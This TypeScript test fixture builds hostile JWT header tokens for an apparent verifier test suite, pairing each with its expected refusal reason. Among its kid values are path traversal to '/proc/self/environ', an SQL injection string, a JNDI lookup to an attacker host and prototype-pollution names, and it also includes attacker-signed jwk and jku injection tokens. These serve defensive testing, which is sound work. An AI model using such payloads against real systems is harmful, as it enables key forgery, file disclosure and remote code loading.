// Hostile tokens, second group: everything else in the JOSE header (RFC 7515 §4.1, RFC 7797, RFC 8725 §3.10, §3.11).
import type { AuthnReason } from '../../../src/refusal-reasons.ts';
import type { HostileToken } from '../hostile-tokens.ts';
import { encode, signToken } from '../sign-token.ts';
import type { TokenIssuers } from '../servers/token-issuers.ts';

const json = (value: unknown): string => JSON.stringify(value) ?? 'undefined';

export function hostileHeaders(issuers: TokenIssuers): readonly HostileToken[] {
  const { token, claims, texts, headerText, payloadText, keys } = issuers;

  const withMember = (name: string, values: readonly unknown[], reason: AuthnReason): HostileToken[] =>
    values.map((value) => ({
      title: `${name}: ${json(value)}`,
      token: token('rsa', {}, { [name]: value }),
      reason,
    }));
  const byAttacker = (title: string, header: object, reason: AuthnReason): HostileToken => ({
    title,
    token: signToken('RS256', keys.attacker.privateKey, claims('rsa'), header),
    reason,
  });
  const attackerJwk = { ...keys.attacker.publicKey.export({ format: 'jwk' }), kid: 'rsa-1', alg: 'RS256' };
  const raw = (title: string, text: string | Buffer, reason: AuthnReason = 'token_malformed'): HostileToken => ({
    title,
    token: texts('hmac', text, payloadText('hmac')),
    reason,
  });

  return [
    ...withMember('crit', [[], null, false, 0, '', ['exp'], ['b64'], ['x'], {}, 'exp'], 'token_header_refused'),
    {
      title: 'a crit with an extension that is present',
      token: token('rsa', {}, { crit: ['http://example.invalid/x'], 'http://example.invalid/x': true }),
      reason: 'token_header_refused',
    },
    ...withMember('b64', [false, true, null], 'token_header_refused'),
    ...withMember('zip', ['DEF', '', null], 'token_header_refused'),
    ...withMember('enc', ['A256GCM', null], 'token_header_refused'),
    ...withMember(
      'typ',
      [
        '',
        'JWE',
        'JOSE',
        'JOSE+JSON',
        'id_token',
        'dpop+jwt',
        'logout+jwt',
        'secevent+jwt',
        'at+jwt ',
        ' JWT',
        'JWT;x=1',
      ],
      'token_type_refused',
    ),
    ...withMember(
      'typ',
      ['application/application/jwt', 'text/jwt', 'at_jwt', 'jwtapplication/'],
      'token_type_refused',
    ),
    ...withMember('typ', [null, 0, true, ['JWT'], { JWT: 1 }], 'token_type_refused'),
    ...withMember('cty', ['JWT', 'jwt', 'application/jwt', null, 1], 'token_type_refused'),
    ...withMember('kid', [null, 0, 1, true, ['rsa-1'], { rsa: 1 }], 'token_header_refused'),
    ...withMember(
      'kid',
      [
        '',
        'rsa-2',
        'RSA-1',
        'rsa-1 ',
        ' rsa-1',
        'rsa-1\0',
        '__proto__',
        'constructor',
        'hasOwnProperty',
        'toString',
        '0',
        '../../../../dev/null',
        '/proc/self/environ',
        "x' UNION SELECT 'key",
        'https://attacker.invalid/key',
        '${jndi:ldap://attacker.invalid/a}',
        'a'.repeat(4000),
      ],
      'key_unknown',
    ).map((hostile, index) => ({ ...hostile, title: hostile.title.slice(0, 60) + ` (${index})` })),

    byAttacker('a jwk member with the signing key', { kid: 'rsa-1', jwk: attackerJwk }, 'signature_invalid'),
    byAttacker('a jwk member and no kid', { jwk: attackerJwk }, 'signature_invalid'),
    byAttacker('a jku member', { kid: 'rsa-1', jku: 'http://127.0.0.1:9/jwks' }, 'signature_invalid'),
    byAttacker('a jku member and an unknown kid', { kid: 'evil', jku: 'http://127.0.0.1:9/jwks' }, 'key_unknown'),
    byAttacker('an x5u member', { kid: 'rsa-1', x5u: 'http://127.0.0.1:9/cert' }, 'signature_invalid'),
    byAttacker('an x5c member', { kid: 'rsa-1', x5c: ['MIIB'] }, 'signature_invalid'),
    byAttacker('an x5t member', { kid: 'rsa-1', x5t: 'AAAA', 'x5t#S256': 'AAAA' }, 'signature_invalid'),
    {
      title: 'a symmetric jwk member with the signing secret',
      token: signToken('HS256', 'k'.repeat(32), claims('hmac'), { jwk: { kty: 'oct', k: encode('k'.repeat(32)) } }),
      reason: 'signature_invalid',
    },

    raw('a header that is a list', '["HS256"]'),
    raw('a header that is a string', '"HS256"'),
    raw('a header that is a number', '256'),
    raw('a header that is null', 'null'),
    raw('a header that is not JSON', 'alg: HS256'),
    raw('a header in single quotes', "{'alg':'HS256'}"),
    raw('a header with an extra comma', '{"alg":"HS256",}'),
    raw('a header with a comment', '{"alg":"HS256"/* */}'),
    raw('a header with text after it', '{"alg":"HS256"} {}'),
    raw('a header with a byte order mark', `\uFEFF${headerText('hmac')}`),
    raw('a header with alg twice', '{"alg":"none","alg":"HS256"}'),
    raw('a header with alg twice, once with an escape', '{"\\u0061lg":"none","alg":"HS256"}'),
    raw('a header with kid twice', '{"alg":"HS256","kid":"a","kid":"b"}'),
    raw('a header with a repeated nested member', '{"alg":"HS256","x":{"a":1,"a":2}}'),
    raw('a header with a lone surrogate', '{"alg":"HS256","kid":"\\ud800"}'),
    raw('a header with a lone surrogate in a name', '{"alg":"HS256","\\udc00":1}'),
    raw('a header in UTF-16', Buffer.from(headerText('hmac'), 'utf16le')),
    raw(
      'a header with a byte that is not UTF-8',
      Buffer.from([...Buffer.from('{"alg":"HS256","x":"'), 0xff, 0x22, 0x7d]),
    ),
    raw('a header with a control character', '{"alg":"HS256","x":"\n"}'),
    raw('a header nested 40 deep', `{"alg":"HS256","x":${'['.repeat(40)}${']'.repeat(40)}}`),
    raw('an empty object', '{}', 'algorithm_refused'),
    raw('alg behind __proto__', '{"__proto__":{"alg":"HS256"}}', 'algorithm_refused'),
  ];
}
